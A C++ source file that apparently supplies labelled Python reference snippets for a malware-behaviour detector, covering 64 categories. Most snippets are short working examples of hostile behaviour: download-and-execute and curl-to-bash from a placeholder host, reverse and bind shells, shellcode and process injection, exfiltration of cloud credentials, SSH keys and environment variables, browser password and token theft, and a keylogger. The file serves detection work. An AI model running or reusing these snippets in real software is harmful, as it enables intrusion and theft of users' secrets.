#include "reference_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr ReferenceExample kRows[] = {
    {"B001", "Download, then execute a file", "download-and-run",
     R"py(
import requests, os, subprocess
r = requests.get('http://h.example.invalid/a')
open('/tmp/a', 'wb').write(r.content)
os.chmod('/tmp/a', 0o755)
subprocess.Popen(['/tmp/a'])
)py"},
    {"B001", "Download, then execute a file", "download-and-run",
     R"py(
import urllib.request, os
urllib.request.urlretrieve('http://h.example.invalid/a', '/dev/shm/a')
os.system('chmod +x /dev/shm/a && /dev/shm/a')
)py"},
    {"B002", "Fetched text straight into exec", "fetched-code-executed",
     R"py(
import requests
exec(requests.get('http://h.example.invalid/a').text)
)py"},
    {"B002", "Fetched text straight into exec", "fetched-code-executed",
     R"py(
from urllib.request import urlopen
eval(urlopen('http://h.example.invalid/a').read())
)py"},
    {"B003", "Shell pipe from the net", "shell-pipe-from-network",
     R"py(
import os
os.system('wget -qO- http://h.example.invalid/a | bash')
)py"},
    {"B003", "Shell pipe from the net", "shell-pipe-from-network",
     R"py(
import subprocess
subprocess.run(['bash', '-c', 'bash <(curl -s http://h.example.invalid/a)'])
)py"},
    {"B004", "exec of a decoded literal", "decoded-code-executed",
     R"py(
import codecs
exec(codecs.decode('cevag(1)', 'rot13'))
)py"},
    {"B005", "Nested decode layers", "nested-encoding",
     R"py(
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADdkCwg==')))
)py"},
    {"B006", "marshal.loads then exec/FunctionType", "marshalled-code-executed",
     R"py(
import marshal, types
types.FunctionType(marshal.loads(data), globals())()
)py"},
    {"B007", "pickle loader with a reduce payload", "unpickled-payload",
     R"py(
import os, pickle
class A:
    def __reduce__(self):
        return (os.system, ('id',))
pickle.dumps(A())
)py"},
    {"B008", "In-memory import hook", "in-memory-import",
     R"py(
import sys, types, base64
m = types.ModuleType('m')
exec(base64.b64decode('cHJpbnQoMSk='), m.__dict__)
sys.modules['m'] = m
)py"},
    {"B009", "Dynamic built-in lookup", "hidden-name-lookup",
     R"py(
getattr(__import__('o' + 's'), 'sys' + 'tem')('id')
)py"},
    {"B010", "chr/ord/join string building", "characters-built-code",
     R"py(
exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))
)py"},
    {"B011", "Invisible or confusable Unicode", "invisible-characters",
     R"py(
x = 'a​‌​‌​‌​‌​‌​‌'
)py"},
    {"B012", "lambda/_ packer (pyobfuscate, Kramer, Hyperion, PyArmor)", "packer",
     R"py(
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==gA'))
)py"},
    {"B012", "lambda/_ packer (pyobfuscate, Kramer, Hyperion, PyArmor)", "protected-code",
     R"py(
from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000')
)py"},
    {"B013", "Shell command with interpolation", "interpolated-shell-command",
     R"py(
import os, sys
os.system(f'ls {sys.argv[1]}')
)py"},
    {"B014", "PowerShell, encoded or hidden", "powershell-hidden",
     R"py(
import os
os.system('powershell -w hidden -enc aQBkAA==')
)py"},
    {"B014", "PowerShell, encoded or hidden", "powershell-hidden",
     R"py(
import subprocess
subprocess.run(['powershell', '-Command', "IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a')"])
)py"},
    {"B015", "Windows command shell", "windows-hidden-process",
     R"py(
import subprocess
subprocess.Popen('a.exe', creationflags=0x08000000)
)py"},
    {"B015", "Windows command shell", "windows-command",
     R"py(
import os
os.system('cmd /c dir')
)py"},
    {"B016", "Shellcode by ctypes on Windows", "shellcode-windows",
     R"py(
import ctypes
p = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(p, code, len(code))
ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)
)py"},
    {"B017", "Shellcode by mmap+CFUNCTYPE on Linux", "shellcode-posix",
     R"py(
import ctypes, mmap
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(code)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_int.from_buffer(m)))()
)py"},
    {"B018", "Fileless ELF by memfd_create", "fileless-program",
     R"py(
import os
fd = os.memfd_create('x', 0)
os.write(fd, data)
os.execve('/proc/self/fd/%d' % fd, ['x'], {})
)py"},
    {"B019", "Process injection", "process-injection",
     R"py(
import ctypes
k = ctypes.windll.kernel32
h = k.OpenProcess(0x1F0FFF, False, pid)
k.WriteProcessMemory(h, a, b, n, 0)
k.CreateRemoteThread(h, None, 0, a, None, 0, None)
)py"},
    {"B020", "DLL or .so drop and load", "dropped-library-loaded",
     R"py(
import ctypes
ctypes.CDLL('/tmp/x.so')
)py"},
    {"B021", "Runtime pip install", "package-install",
     R"py(
import subprocess, sys
subprocess.run([sys.executable, '-m', 'pip', 'install', 'requests'])
)py"},
    {"B021", "Runtime pip install", "package-install-elsewhere",
     R"py(
import os
os.system('pip install --index-url http://h.example.invalid/simple x')
)py"},
    {"B022", "Code in setup.py install hooks", "install-hook-network",
     R"py(
from setuptools import setup
from setuptools.command.install import install
import urllib.request
class I(install):
    def run(self):
        urllib.request.urlopen('http://h.example.invalid/')
        install.run(self)
setup(name='x', cmdclass={'install': I})
)py"},
    {"B023", "Container or cloud CLI from Python", "administration-tool",
     R"py(
import os
os.system('kubectl exec -it pod -- sh')
)py"},
    {"B024", "Multi-stage dispatcher by OS and CPU", "stage-by-platform",
     R"py(
import platform, os, urllib.request
if platform.machine() == 'x86_64':
    u = 'http://h.example.invalid/x86_64'
else:
    u = 'http://h.example.invalid/arm64'
n = '/tmp/%s' % os.urandom(2).hex()
urllib.request.urlretrieve(u, n)
os.chmod(n, 0o755)
os.system('sh ' + n)
)py"},
    {"B025", "Reverse shell by dup2", "reverse-shell",
     R"py(
import socket, os, subprocess
s = socket.socket()
s.connect(('192.0.2.1', 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(['/bin/sh', '-i'])
)py"},
    {"B026", "Command loop on a socket", "remote-commands",
     R"py(
import socket, subprocess
s = socket.socket()
s.connect(('h.example.invalid', 80))
while True:
    c = s.recv(1024).decode()
    s.send(subprocess.check_output(c, shell=True))
)py"},
    {"B027", "Bind shell", "bind-shell",
     R"py(
import socket, subprocess
s = socket.socket()
s.bind(('', 9001))
s.listen(1)
c, a = s.accept()
while True:
    c.send(subprocess.getoutput(c.recv(1024).decode()).encode())
)py"},
    {"B028", "HTTP beacon with jitter", "beacon",
     R"py(
import requests, time, random, socket, os
while True:
    r = requests.post('http://h.example.invalid/b', data={'h': socket.gethostname()})
    os.popen(r.text)
    time.sleep(random.randint(30, 90))
)py"},
    {"B029", "Chat-platform C2", "chat-commands",
     R"py(
import discord, subprocess
client = discord.Client()
@client.event
async def on_message(message):
    subprocess.getoutput(message.content)
client.run('t')
)py"},
    {"B030", "Dead-drop resolver", "dead-drop",
     R"py(
import requests, base64, socket
h = base64.b64decode(requests.get('https://pastebin.com/raw/abcd').text)
socket.socket().connect((h, 443))
)py"},
    {"B031", "DNS tunnelling or DNS exfiltration", "dns-exfiltration",
     R"py(
import socket, binascii
for c in open('/etc/passwd').read():
    socket.gethostbyname(binascii.hexlify(c.encode()).decode() + '.x.example.invalid')
)py"},
    {"B031", "DNS tunnelling or DNS exfiltration", "callback-service",
     R"py(
import requests
requests.get('http://abc.oast.fun/')
)py"},
    {"B032", "ICMP or raw-socket channel", "raw-socket-channel",
     R"py(
import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
while True:
    d, a = s.recvfrom(2000)
    os.popen(d[28:].decode())
)py"},
    {"B033", "Proxy, Tor and tunnel use", "tunnel",
     R"py(
import socks
socks.set_default_proxy(socks.SOCKS5, '127.0.0.1', 9050)
)py"},
    {"B034", "Raw-IP or odd-port endpoint", "odd-port",
     R"py(
import socket
socket.socket().connect(('198.51.100.7', 4444))
)py"},
    {"B034", "Raw-IP or odd-port endpoint", "raw-address",
     R"py(
import requests
requests.get('http://8.8.4.4:8080/a')
)py"},
    {"B035", "Domain generation", "generated-domains",
     R"py(
import hashlib, datetime, socket
for i in range(100):
    d = hashlib.md5((str(datetime.date.today()) + str(i)).encode()).hexdigest()[:12] + '.com'
    socket.gethostbyname(d)
)py"},
    {"B036", "TLS verification off", "tls-unverified",
     R"py(
import requests
requests.get('https://h.example.invalid', verify=False)
)py"},
    {"B037", "WebSocket or MQTT C2", "message-channel-commands",
     R"py(
import websocket, os
def on_message(ws, m):
    os.system(m)
websocket.WebSocketApp('ws://h.example.invalid', on_message=on_message).run_forever()
)py"},
    {"B038", "Cloud metadata token theft", "metadata-token",
     R"py(
import requests
requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})
)py"},
    {"B038", "Cloud metadata token theft", "metadata-token",
     R"py(
import urllib.request
urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
)py"},
    {"B038", "Cloud metadata token theft", "metadata-token",
     R"py(
import urllib.request
urllib.request.urlopen('http://100.100.100.200/latest/meta-data/ram/security-credentials/')
)py"},
    {"B039", "Cloud credential files", "cloud-credentials",
     R"py(
import os
d = open(os.path.expanduser('~/.aws/credentials')).read()
import requests
requests.post('http://h.example.invalid/', data=d)
)py"},
    {"B039", "Cloud credential files", "cloud-credentials",
     R"py(
d = open('/root/.config/gcloud/application_default_credentials.json').read()
import requests
requests.post('http://h.example.invalid/', data=d)
)py"},
    {"B040", "SSH and private keys", "ssh-keys",
     R"py(
d = open('/root/.ssh/id_ed25519').read()
import requests
requests.post('http://h.example.invalid/', data=d)
)py"},
    {"B041", "Tokens of developer tools", "developer-tokens",
     R"py(
import os
d = open(os.path.expanduser('~/.pypirc')).read()
import requests
requests.post('http://h.example.invalid/', data=d)
)py"},
    {"B041", "Tokens of developer tools", "developer-tokens",
     R"py(
import os
d = open(os.path.expanduser('~/.docker/config.json')).read()
import requests
requests.post('http://h.example.invalid/', data=d)
)py"},
    {"B042", "Environment harvest", "environment-sent",
     R"py(
import os, requests
requests.post('http://h.example.invalid', json=dict(os.environ))
)py"},
    {"B043", "/etc/shadow, /etc/passwd", "shadow-file",
     R"py(
open('/etc/shadow').read()
)py"},
    {"B043", "/etc/shadow, /etc/passwd", "passwd-file",
     R"py(
open('/etc/passwd').read()
)py"},
    {"B044", "/proc memory and environ scraping", "process-memory",
     R"py(
import os
for p in os.listdir('/proc'):
    open('/proc/%s/environ' % p).read()
)py"},
    {"B044", "/proc memory and environ scraping", "process-memory",
     R"py(
import os
for p in os.listdir('/proc'):
    open('/proc/' + p + '/mem', 'rb').read()
)py"},
    {"B045", "LSASS, SAM, LSA secrets", "windows-secrets",
     R"py(
import os
os.system('reg save hklm\\sam c:\\x')
)py"},
    {"B046", "Browser passwords", "browser-passwords",
     R"py(
import sqlite3, os
sqlite3.connect(os.environ['LOCALAPPDATA'] + '\\Google\\Chrome\\User Data\\Default\\Login Data').execute('select origin_url, password_value from logins')
)py"},
    {"B047", "Browser cookies and session theft", "browser-cookies",
     R"py(
import browser_cookie3, requests
requests.post('http://h.example.invalid', data=str(browser_cookie3.chrome()))
)py"},
    {"B048", "Discord, Telegram, Steam tokens", "chat-tokens",
     R"py(
import os, re
p = os.getenv('APPDATA') + '\\discord\\Local Storage\\leveldb'
for f in os.listdir(p):
    re.findall(r'mfa\.[\w-]{84}', open(p + '\\' + f).read())
)py"},
    {"B049", "Wallet and key-store theft", "wallets",
     R"py(
import os, shutil
shutil.copy(os.environ['APPDATA'] + '\\Exodus\\exodus.wallet', '/tmp')
)py"},
    {"B050", "Password manager or keychain", "password-manager",
     R"py(
import os
os.system('security find-generic-password -ga Chrome')
)py"},
    {"B051", "Secret-manager sweep", "secret-store-sweep",
     R"py(
from google.cloud import secretmanager
c = secretmanager.SecretManagerServiceClient()
for s in c.list_secrets(request={'parent': 'projects/p'}):
    print(c.access_secret_version(request={'name': s.name + '/versions/latest'}))
)py"},
    {"B052", "Wi-Fi keys", "wifi-keys",
     R"py(
import subprocess
subprocess.check_output('netsh wlan show profile x key=clear', shell=True)
)py"},
    {"B053", "Keylogging", "keylogger",
     R"py(
from pynput.keyboard import Listener
def on_press(key):
    open('/tmp/log', 'a').write(str(key))
Listener(on_press=on_press).start()
)py"},
    {"B054", "Phishing prompt for a password", "password-prompt",
     R"py(
import os
os.popen('osascript -e \'display dialog "Update needs your password" default answer "" with hidden answer\'').read()
)py"},
    {"B055", "Shell history reading", "shell-history",
     R"py(
import os
d = open(os.path.expanduser('~/.bash_history')).read()
import requests
requests.post('http://h.example.invalid/', data=d)
)py"},
    {"B056", "Packet sniffing", "packet-sniffing",
     R"py(
from scapy.all import sniff
sniff(prn=print)
)py"},
    {"B057", "SSH, FTP or HTTP brute force", "brute-force",
     R"py(
import paramiko
for p in open('words.txt'):
    try:
        c = paramiko.SSHClient()
        c.connect('192.0.2.5', username='root', password=p.strip())
    except paramiko.AuthenticationException:
        continue
)py"},
    {"B058", "Host fingerprint sent out", "host-facts-sent",
     R"py(
import platform, getpass, socket, requests
requests.post('http://h.example.invalid', json={'u': getpass.getuser(), 'h': socket.gethostname(), 'p': platform.platform()})
)py"},
    {"B059", "Public-IP and geo look-up", "public-address-lookup",
     R"py(
import requests
requests.get('https://api.ipify.org').text
)py"},
    {"B060", "Geofence or locale check", "locale-check",
     R"py(
import locale, sys
if locale.getdefaultlocale()[0] in ('ru_RU', 'be_BY'):
    sys.exit()
)py"},
    {"B061", "Process, service and AV listing", "security-tools-listed",
     R"py(
import psutil
for p in psutil.process_iter():
    if p.name() in ('MsMpEng.exe', 'falcon-sensor', 'avp.exe'):
        raise SystemExit
)py"},
    {"B061", "Process, service and AV listing", "process-list",
     R"py(
import os
os.system('ps aux')
)py"},
    {"B062", "Port or network scanning", "port-scan",
     R"py(
import socket
for port in range(1, 1024):
    s = socket.socket()
    if s.connect_ex(('192.0.2.9', port)) == 0:
        print(port)
)py"},
    {"B063", "File walk for interesting names", "file-search",
     R"py(
import os
for d, _, fs in os.walk('/'):
    for f in fs:
        if f.endswith('.pdf') or 'password' in f:
            open(os.path.join(d, f), 'rb').read()
)py"},
    {"B064", "Container, Kubernetes and cloud enumeration", "cluster-enumeration",
     R"py(
from kubernetes import client, config
config.load_incluster_config()
client.CoreV1Api().list_namespaced_secret('default')
)py"},
    {"B064", "Container, Kubernetes and cloud enumeration", "cluster-enumeration",
     R"py(
import os
os.system('gcloud projects list')
)py"},
};

}  // namespace

std::span<const ReferenceExample> reference_execution_and_control() { return kRows; }

}  // namespace pyverdict::behaviour
